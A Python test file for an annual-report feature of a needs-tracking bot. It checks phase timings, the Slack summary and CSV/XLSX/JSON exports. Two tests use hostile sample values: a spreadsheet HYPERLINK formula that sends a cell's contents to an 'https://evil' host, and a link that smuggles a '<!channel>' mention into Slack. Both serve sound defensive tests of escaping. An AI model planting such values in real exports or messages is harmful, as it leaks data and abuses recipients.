"""The annual report against figures computed by hand, and the files `behov export` writes.

The fixture (UTC times; the report's year is in Europe/Stockholm):
  #1 reg 2025-12-31 23:30 (= 1 Jan 2026 in Stockholm), fas 2 2026-01-10 23:30 (10 d in fas 1),
     fas 3 2026-02-09 23:30 (30 d in fas 2), fas 4 2026-05-09 23:30 (89 d in fas 3), product
  #2 reg 2026-03-01, fas 2 03-05 (4 d), closed ej_prioriterat 03-25 (20 d in fas 2)
  #3 reg 2026-06-01, stays in fas 1, no perspective given for target group or level
  #4 reg 2025-06-01, fas 2 2025-12-01 (183 d, ended 2025), fas 3 2026-01-31 (61 d in fas 2)
  #5 reg 2026-12-31 23:30 (= 00:30 on 1 Jan 2027 in Stockholm)
  #6 reg 2026-04-01, fas 2 04-03 (2 d), closed aterkallat 04-13 (10 d in fas 2)
"""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.i18n import SV
from bot.report_chart import report_chart_png
from bot.reporting import report_json, report_tables
from commands.render.report import MAX_COMMENT, report_messages, report_text
from domain.report import NeedFacts, PhaseTime, annual_report, report_years
from storage.models import Completion, Need
from storage.report import report_facts
from tests.public_support import add_need, move

TZ = ZoneInfo("Europe/Stockholm")


def at(y, m, d, h=12, minute=0):
    return datetime(y, m, d, h, minute, tzinfo=UTC)


@pytest.fixture
def facts(db, ref):
    with db.session(write=True) as s:
        n1 = add_need(
            s, ref, "Ett", at=at(2025, 12, 31, 23, 30), origin="politiskt_uppdrag",
            area="ledning_styrning", target_groups=["aldre"], level="lansgemensam",
        )  # fmt: skip
        move(s, n1, 2, at(2026, 1, 10, 23, 30))
        move(s, n1, 3, at(2026, 2, 9, 23, 30))
        move(s, n1, 4, at(2026, 5, 9, 23, 30))
        s.add(
            Completion(
                need_id=n1.id, final_report_date=date(2026, 5, 1), vvg_position="Godkänd",
                product_url="https://example.org/ett", completed_by="UADMIN1",
                completed_at=at(2026, 5, 9, 23, 30),
            )
        )  # fmt: skip
        n2 = add_need(
            s, ref, "Två", at=at(2026, 3, 1), area="personcentrerat",
            target_groups=["barn_unga", "aldre"], level="delregional",
        )  # fmt: skip
        move(s, n2, 2, at(2026, 3, 5))
        n2.outcome, n2.closed_at = "ej_prioriterat", at(2026, 3, 25)
        n3 = add_need(
            s, ref, "Tre", at=at(2026, 6, 1), area="digitalisering", target_groups=[], level=None
        )
        n4 = add_need(s, ref, "Fyra", at=at(2025, 6, 1))
        move(s, n4, 2, at(2025, 12, 1))
        move(s, n4, 3, at(2026, 1, 31))
        add_need(s, ref, "Fem", at=at(2026, 12, 31, 23, 30))
        n6 = add_need(
            s, ref, "Sex", at=at(2026, 4, 1), origin="lag_foreskrift",
            area="kompetensforsorjning", target_groups=["psykisk_missbruk"], level="lokal",
        )  # fmt: skip
        move(s, n6, 2, at(2026, 4, 3))
        n6.outcome, n6.closed_at = "aterkallat", at(2026, 4, 13)
        assert [n.id for n in (n1, n2, n3, n4, n6)] == [1, 2, 3, 4, 6]
    with db.session() as s:
        return report_facts(s)


def test_registered_in_the_year_by_classification(facts):
    report = annual_report(facts, 2026, TZ)
    assert report.registered == 4  # #1 #2 #3 #6; #4 was 2025, #5 is 2027 in Stockholm
    assert report.by_origin == {
        "gemensamt_utvecklingsarbete": 2, "politiskt_uppdrag": 1, "lag_foreskrift": 1,
    }  # fmt: skip
    assert report.by_perspective == {"arbetssatt": 2, "gemensamt_ansvar": 1, "forutsattningar": 1}
    assert report.by_target_group == {"aldre": 2, "barn_unga": 1, None: 1, "psykisk_missbruk": 1}
    assert report.by_level == {"lansgemensam": 1, "delregional": 1, None: 1, "lokal": 1}


def test_status_at_year_end(facts):
    report = annual_report(facts, 2026, TZ)
    assert report.status == {  # a need in phase 4 has a completed mission, not an ongoing one
        1: {"open": 1, "completed": 0, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
        2: {"open": 0, "completed": 0, "ej_prioriterat": 1, "aterkallat": 1, "sammanslaget": 0},
        3: {"open": 1, "completed": 0, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
        4: {"open": 0, "completed": 1, "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0},
    }
    assert report.total_at_year_end == 5


def test_time_in_each_phase(facts):
    report = annual_report(facts, 2026, TZ)
    assert report.phase_times == [
        PhaseTime(1, 3, 4.0, 10.0, 1),  # 10, 4, 2 days
        PhaseTime(2, 4, 25.0, 61.0, 4),  # 30, 20, 61, 10 days
        PhaseTime(3, 1, 89.0, 89.0, 1),
        PhaseTime(4, 0, None, None, None),
    ]


def test_completed_missions_with_links(facts):
    report = annual_report(facts, 2026, TZ)
    assert [(m.number, m.completed_on, m.product_url) for m in report.completed] == [
        (1, date(2026, 5, 10), "https://example.org/ett")  # 23:30 UTC is the 10th in Stockholm
    ]


def test_the_year_before_looks_back_at_its_own_end(facts):
    report = annual_report(facts, 2025, TZ)
    assert report.registered == 1
    assert report.status[2]["open"] == 1 and report.total_at_year_end == 1
    assert report.phase_times[0] == PhaseTime(1, 1, 183.0, 183.0, 4)
    assert report.completed == []


def test_text_summary_and_chart(facts, ref):
    report = annual_report(facts, 2026, TZ)
    text = report_text(report_tables(report, ref, SV), SV, 2026)
    assert "Årsrapport 2026" in text
    assert "Registrerade behov under året: *4*" in text
    assert "Politiskt uppdrag 1" in text
    assert "2. Ställningstagande och prioritering: 1 ej prioriterat, 1 återkallat" in text
    assert "3. Genomförande: 1 pågående" in text
    assert "4. Slutfört uppdrag: 1 slutfört" in text and "pågående\n*Tid i fas" not in text
    assert "median 25 dagar, längst 61 dagar (#4)" in text
    assert "#1 Ett (2026-05-10) – <https://example.org/ett|slutprodukt>" in text
    png = report_chart_png(report, SV)
    assert png.startswith(b"\x89PNG") and len(png) > 10_000


def test_the_slack_summary_links_only_real_addresses(facts, ref):
    tables = report_tables(annual_report(facts, 2026, TZ), ref, SV)
    completed = next(t for t in tables if t.name == "completed")
    assert "<https://example.org/ett|slutprodukt>" in report_text(tables, SV, 2026)
    completed.rows[0][3] = "https://x.se/><!channel>"  # stored before the form checked links
    text = report_text(tables, SV, 2026)
    assert "<!channel>" not in text and "https://x.se/&gt;&lt;!channel&gt;" in text


def completed_facts(count: int) -> list[NeedFacts]:
    """Needs completed in 2026 with 150-character titles and links full of `&` and `<`."""
    return [
        NeedFacts(
            number=n,
            title=(f"Uppdrag {n} " + "&<" * 80)[:150],
            origin=None,
            perspective=None,
            target_groups=[],
            level=None,
            submitted_at=at(2025, 3, 1),
            phase=4,
            phase_entered_at=at(2026, 3, 1),
            completed_at=at(2026, 3, 1, 10, n),
            product_url=f"https://example.org/p?a=1&b=2&n={n}" + "&x" * 200,
        )
        for n in range(1, count + 1)
    ]


def test_many_completed_missions_go_whole_over_several_messages(ref):
    report = annual_report(completed_facts(40), 2026, TZ)
    text = report_text(report_tables(report, ref, SV), SV, 2026)
    messages = report_messages(text, SV, 2026)
    assert len(messages) > 1 and all(len(m) <= MAX_COMMENT for m in messages)
    assert messages[0].startswith("*Årsrapport 2026: utvecklingsbehov på länsnivå*")
    parts = len(messages)
    for number, message in enumerate(messages[1:], 2):
        assert message.startswith(f"*Årsrapport 2026, del {number} av {parts}*\n")
    bodies = [messages[0]] + [m.split("\n", 1)[1] for m in messages[1:]]
    lines = "\n".join(bodies).split("\n")
    assert lines == text.split("\n")  # every line, whole and in order: no link or `&amp;` cut
    missions = [line for line in lines if line.startswith("• #")]
    assert len(missions) == 40 and all(line.endswith("|slutprodukt>") for line in missions)
    assert "…" not in text


def test_a_short_report_is_one_message(facts, ref):
    text = report_text(report_tables(annual_report(facts, 2026, TZ), ref, SV), SV, 2026)
    assert report_messages(text, SV, 2026) == [text]


def test_the_years_a_report_can_be_made_for():
    assert report_years(2026) == range(2000, 2027)
    assert 1999 not in report_years(2026) and 2027 not in report_years(2026)


def test_json_is_keyed(facts):
    data = report_json(annual_report(facts, 2026, TZ))
    assert data["registered_by"]["level"][-2:] == [
        {"key": None, "count": 1}, {"key": "lokal", "count": 1},
    ]  # fmt: skip
    assert data["time_in_phase"][1]["median_days"] == 25.0
    assert data["completed_missions"][0]["completed_on"] == "2026-05-10"
    assert data["status_at_year_end"][3] == {"phase": 4, "open": 0, "completed": 1,
        "ej_prioriterat": 0, "aterkallat": 0, "sammanslaget": 0}  # fmt: skip


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_behov_export_writes_the_report(facts, database_url, tmp_path, monkeypatch, fmt):
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("BEHOV_AUTO_MIGRATE", "0")
    out = tmp_path / f"rapport.{fmt}"
    assert main(["export", "--format", fmt, "--out", str(out), "--year", "2026"]) == 0
    if fmt == "json":
        data = json.loads(out.read_text("utf-8"))
        assert data["registered"] == 4 and data["year"] == 2026
    elif fmt == "csv":
        rows = list(csv.reader(out.open(encoding="utf-8")))
        assert ["summary", "Registrerade behov under året", "4"] in rows
        phase2 = "2. Ställningstagande och prioritering"
        assert ["phase_time", phase2, "4", "25.0", "61.0", "#4"] in rows
        assert ["completed", "#1", "Ett", "2026-05-10", "https://example.org/ett"] in rows
        assert ["status", "4. Slutfört uppdrag", "0", "1", "0", "0", "0", "1"] in rows
    else:
        book = load_workbook(out)
        assert book.sheetnames == [
            "Sammanfattning", "Per ursprung", "Per perspektiv", "Per målgrupp", "Per nivå",
            "Läget vid årets slut", "Tid i fas", "Slutförda uppdrag",
        ]  # fmt: skip
        status = book["Läget vid årets slut"]
        phase2 = "2. Ställningstagande och prioritering"
        assert [c.value for c in status[1]][1:3] == ["Pågående", "Slutfört"]
        assert [c.value for c in status[3]] == [phase2, 0, 0, 1, 1, 0, 2]
        assert [c.value for c in status[5]] == ["4. Slutfört uppdrag", 0, 1, 0, 0, 0, 1]
        assert len(status._charts) == 1
        assert book["Slutförda uppdrag"]["D2"].value == "https://example.org/ett"


FORMULA = '=HYPERLINK("https://evil"&A1,"Klicka här")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_title_written_as_a_formula_is_exported_as_text(
    facts, db, database_url, tmp_path, monkeypatch, fmt
):
    with db.session(write=True) as s:
        s.get(Need, 1).title = FORMULA  # #1 is completed in 2026: its title is in the export
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("BEHOV_AUTO_MIGRATE", "0")
    out = tmp_path / f"rapport.{fmt}"
    assert main(["export", "--format", fmt, "--out", str(out), "--year", "2026"]) == 0
    if fmt == "csv":
        rows = list(csv.reader(out.open(encoding="utf-8")))
        assert ["completed", "#1", "'" + FORMULA, "2026-05-10", "https://example.org/ett"] in rows
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
        return
    book = load_workbook(out)
    title = book["Slutförda uppdrag"]["B2"]
    assert (title.value, title.data_type) == ("'" + FORMULA, "s")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}


def test_export_rejects_an_unknown_format(tmp_path):
    with pytest.raises(SystemExit):
        main(["export", "--format", "pdf", "--out", str(tmp_path / "x")])
